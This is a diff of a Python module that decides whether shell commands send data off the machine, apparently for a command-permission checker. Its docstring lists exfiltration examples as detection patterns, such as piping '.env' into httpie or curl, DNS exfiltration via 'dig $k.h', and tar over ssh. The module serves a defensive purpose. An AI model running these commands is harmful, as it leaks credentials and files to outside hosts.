@@ -12,16 +12,19 @@ SPEC's external-effect list does not name; RN-418 caps them like a publish).
   (``host:path``, ``host::module``, ``rsync://``) or removing a remote source, ``sftp`` in a session or a
   batch (it can ``put``);
 - ``nc``/``ncat``/``netcat`` connecting or listening (their input goes to the peer) unless scanning
-  (``-z``) or told not to send (``-d``, ``--recv-only``); ``socat`` with a network address.
-
+  (``-z``) or told not to send (``-d``, ``--recv-only``; ncat's ``-d`` is a delay); ``socat`` with a network
+  address;
 - what a program reads on its standard input and sends on (R4.10, read with the segment's surroundings:
-  :func:`uploads_in`): httpie/xh with a piped or redirected body (``cat .env | http host``, ``http host <
-  f``), ``ssh host < f`` / ``tar c . | ssh host 'tar x'`` (unless ``-n``/``-f``/``-N``), ``openssl s_client``
-  fed a file, ``telnet`` (its input goes to the peer, like ``nc``), ``wget -i`` (each line a request);
-  network programs handed words read from a pipe by ``xargs``/``parallel`` (``cat .env | xargs curl h/``);
-  ``curl -H @file``, ``--url-query x@file``, ``--expand-*`` (a file's content in the request);
-  git's transports that send (``send-pack``, ``http-push``, ``imap-send``, ``remote-https``...: the git row
-  of permissions.commands.families).
+  :func:`uploads_in`, :func:`fed_segments`): httpie/xh/curlie with a piped or redirected body (``cat .env |
+  http host``, ``http host < f``), ``ssh host < f`` / ``tar c . | ssh host 'tar x'`` (unless ``-n``/``-f``/
+  ``-N``; also through autossh and sshpass), ``openssl s_client``, ``grpcurl -d @``, websocat/wscat,
+  ``telnet`` (its input goes to the peer, like ``nc``), ``wget -i`` (each line of a file a request);
+- words the command read, handed to a network program: by ``xargs``/``parallel`` from a fed input (``cat
+  .env | xargs curl h/``), or built from what it captured (``curl "https://h/$(cat .env)"``, ``read k <
+  f; dig $k.h``: :func:`captures`);
+- ``curl -H @file``, ``--url-query x@file``, ``--expand-*`` (a file's content in the request); git's
+  transports that send (``send-pack``, ``http-push``, ``imap-send``, ``remote-https``...) and a registry
+  ``login`` (``--password-stdin``): the rows of permissions.commands.families.
 
 Stay as they were: downloads (``curl -fsSL url``, ``curl -o f url``, ``wget url``, ``scp host:f .``,
 ``rsync host:src/ dst/``, ``sftp host:f``), local copies (``rsync a/ b/``, ``scp a b``), ``ssh host uptime``
@@ -52,7 +55,6 @@ __all__ = [
     "table_operands",
     "uploads",
     "uploads_in",
-    "uploads_past_loopback",
 ]
 
 # False while a command that names a proxy is read: its loopback requests may go anywhere
@@ -422,20 +424,26 @@ def _ssh_reverse(view: tuple[str, ...]) -> bool:
     return any(w[:1] == "-" and w[1:2] != "-" and "R" in w.partition("=")[0] for w in view[1:])
 
 
+# s_client options whose `host:port`-like value is not where it connects.
+_OPENSSL_NOT_TARGETS = frozenset(
+    {"-bind", "-servername", "-keylogfile", "-alpn", "-nextprotoneg", "-sess_out"}
+)
+
+
 def _openssl(view: tuple[str, ...]) -> bool:
-    """``openssl s_client`` fed an input sends it to the server it connects to (``-connect``, a
-    ``host:port`` operand; by default this machine)."""
+    """``openssl s_client`` fed an input sends it to the server it connects to (``-connect``/``-host``, a
+    ``host:port`` operand anywhere; by default this machine) or through ``-proxy``."""
     if not _FED.get() or len(view) < 2 or view[1] != "s_client":
         return False
     targets: list[str] = []
     for k, w in enumerate(view[2:], 2):
         before = view[k - 1]
+        if w.startswith(("-proxy", "--proxy")):
+            return True
         if before in ("-connect", "--connect", "-host"):
             targets.append(w)
-        elif w[:1] != "-" and (before[:1] != "-" or k == 2):
-            targets.append(w)  # `openssl s_client host:443`
-        elif w.startswith(("-proxy", "--proxy", "-connect=")):
-            return True
+        elif w[:1] not in ("-", "/") and ":" in w and before not in _OPENSSL_NOT_TARGETS:
+            targets.append(w)  # `openssl s_client -quiet host:443`
     return not all(_loopback(t) for t in targets)
 
 
@@ -576,16 +584,6 @@ def uploads(view: tuple[str, ...]) -> bool:
     return reader is not None and reader(view)
 
 
-def uploads_past_loopback(view: tuple[str, ...]) -> bool:
-    """:func:`uploads`, with no loopback exemption: for a command that names a proxy anywhere (an
-    assignment, ``export``, ``env``, a written ``.curlrc``), which can send a loopback request elsewhere."""
-    token = _LOOPBACK_TRUSTED.set(False)
-    try:
-        return uploads(view)
-    finally:
-        _LOOPBACK_TRUSTED.reset(token)
-
-
 def uploads_in(view: tuple[str, ...], *, fed: str, proxied: bool, handed: bool) -> bool:
     """:func:`uploads` with what the view's surroundings show: ``fed``, how its standard input is fed
     (DATA: a pipe, ``<``, an expanding here-document; TEXT: a literal one; "": not -- :func:`fed_segments`); ``proxied``, the command names a proxy or a setting that
@@ -696,6 +694,8 @@ def names_a_proxy(segments: Sequence[Segment]) -> bool:
             if any(m in lw for m in _PROXY_MARKS):
                 return True
         verb = seg.words[0] if seg.words else ""
-        if verb in _SETS_ANY or (verb in _DECLARES and seg.dynamic):
+        if verb in _SETS_ANY or (
+            verb in _DECLARES and seg.dynamic and (verb != "printf" or "-v" in seg.words)
+        ):
             return True
     return False
